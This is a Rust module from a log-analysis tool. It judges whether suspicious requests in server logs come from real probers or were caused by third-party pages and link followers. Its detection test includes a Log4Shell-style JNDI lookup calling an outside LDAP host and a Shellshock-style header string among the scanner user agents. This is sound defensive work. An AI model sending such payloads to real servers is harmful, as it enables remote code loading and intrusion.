//! Clients whose requests a third party may have made them send.
//!
//! Any page can make the browsers of its readers request any path and query of a site: by images,
//! frames, style sheets, links, redirects and forms. Search engines and previews of links request
//! them as well. So a few probes by a browser, or one or two by a follower of links, are no sign of
//! a prober, and [`block_candidates`](super::block_candidates) does not list their client. The
//! signs that a third party cannot cause are
//!
//! - a user agent that is neither a browser's nor a link follower's, as a page cannot set it; also
//!   none, where the log has others;
//! - a rule about the client or the method, as for the name of a scanner in a user agent;
//! - [`MANY_PROBES`] distinct paths, more than a post with images has; of a link follower
//!   [`MIN_PROBES`];
//! - [`MANY_PROBES`] POSTs, because only a click or a script sends one.
//!
//! The referer is no sign. A page can suppress it or be on the site itself, and scanners send any.
//! Nor are the times, the number of GETs or other requests: a page that is read again sends its
//! requests again, alone or beside a visit. A page with a script can exceed the bounds: what its
//! readers send is a scan.
//!
//! On eleven real logs 21 of 155 entries had no other sign: 19 of them had up to three paths, and
//! one more had up to nineteen.

use std::cell::LazyCell;
use std::collections::{HashMap, HashSet};

use memchr::memmem;

use super::build::LogAnalysis;
use super::rows;
use crate::collections::intern::SymbolTables;
use crate::formats::LogFormat;
use crate::judge::prober::{MANY_PROBES, MIN_PROBES};
use crate::judge::report_input::ReportInput;
use crate::log::client::Client;
use crate::soft_404::{MethodClass, RuleSubject};

/// What the hits of a client show.
#[derive(Debug)]
struct ClientSigns {
    /// Fewer distinct paths than this may be those of a third party.
    path_bound: u64,
    /// Hits with a request body.
    posts: u64,
}

/// The clients whose hits a third party may have caused, if they have fewer distinct paths than
/// this. `subject` is what a client is judged as, if it is judged.
pub(super) fn third_party_bounds<'a>(
    analysis: &LogAnalysis<'a>,
    subject: impl Fn(Client<'a>) -> Option<Client<'a>>,
) -> HashMap<Client<'a>, u64> {
    let tally = analysis.input.tally;
    let mut signs: HashMap<Client<'a>, ClientSigns> = HashMap::new();
    let with_agents = LazyCell::new(|| inputs_with_agents(&analysis.input));
    for (view, decision) in analysis.cells() {
        if !decision.reported || view.client == SymbolTables::OTHER {
            continue;
        }
        let Some(subject) = subject(tally.client(view.client)) else {
            continue;
        };
        let sample = view.sample();
        let input = sample.position.input;
        let path_bound = match rows::sample(&analysis.input, sample).user_agent {
            Some(agent) => agent_bound(agent.raw()),
            None if with_agents.contains(&input) => 0,
            None => MANY_PROBES,
        };
        let is_of_client = |rule| analysis.input.rules.rule(rule).subject == RuleSubject::Client;
        let path_bound = if analysis
            .list(decision)
            .iter()
            .any(|&rule| is_of_client(rule))
        {
            0
        } else {
            path_bound
        };
        let signs = signs.entry(subject).or_insert(ClientSigns {
            path_bound,
            posts: 0,
        });
        signs.path_bound = signs.path_bound.min(path_bound);
        signs.posts += if view.method == MethodClass::Post {
            view.cell.hits
        } else {
            0
        };
    }
    let without_posts = signs
        .into_iter()
        .filter(|(_, signs)| signs.posts < MANY_PROBES);
    without_posts
        .map(|(client, signs)| (client, signs.path_bound))
        .collect()
}

/// The inputs whose lines have user agents: by their format, or because a hit has one.
fn inputs_with_agents(report_input: &ReportInput<'_>) -> HashSet<u32> {
    let has_field = |format: &str| {
        [LogFormat::Combined, LogFormat::VhostCombined]
            .iter()
            .any(|known| format == known.as_str())
    };
    let by_format = (0..)
        .zip(report_input.inputs)
        .filter(|(_, input)| input.format.as_deref().is_some_and(has_field));
    let samples = report_input.tally.cells().map(|view| view.sample());
    let by_hit = samples.filter(|sample| rows::sample(report_input, *sample).user_agent.is_some());
    by_format
        .map(|(number, _)| number)
        .chain(by_hit.map(|sample| sample.position.input))
        .collect()
}

/// Bytes of payloads, which browsers have in no user agent.
const PAYLOAD: &[u8] = b"${}<>`\\";

/// The distinct paths from which a client with this user agent is a prober. Any client can send
/// that of a browser, or of a program that follows the links of others and gives an address about
/// itself: that it is true is not known.
fn agent_bound(agent: &[u8]) -> u64 {
    let has = |part: &[u8]| memmem::find(agent, part).is_some();
    if agent.iter().any(|byte| PAYLOAD.contains(byte)) {
        0
    } else if has(b"+http") {
        MIN_PROBES
    } else if agent.starts_with(b"Mozilla/5.0 (") && (has(b"AppleWebKit/") || has(b"Gecko"))
        || agent.starts_with(b"Opera/9.80 (")
    {
        // All browsers of today have one of these engines in their name; Opera Mini does not.
        MANY_PROBES
    } else {
        0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn browsers_and_followers_of_links_are_known_by_their_user_agents() {
        for agent in [
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBLC/en_US]",
            "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10",
        ] {
            assert_eq!(agent_bound(agent.as_bytes()), 10, "{agent}");
        }
        for agent in [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        ] {
            assert_eq!(agent_bound(agent.as_bytes()), 3, "{agent}");
        }
        for agent in [
            "",
            "-",
            "x",
            "Mozilla/5.0",
            "Mozilla/5.0 zgrab/0.x",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
            "python-requests/2.32.3",
            "curl/8.5.0",
            "Go-http-client/1.1",
            "Hello, World",
            "Mozilla/5.0 (X11) Gecko/20100101 Firefox/128.0 ${jndi:ldap://203.0.113.77/a}",
            "() { :;}; echo +http://",
        ] {
            assert_eq!(agent_bound(agent.as_bytes()), 0, "{agent}");
        }
    }
}
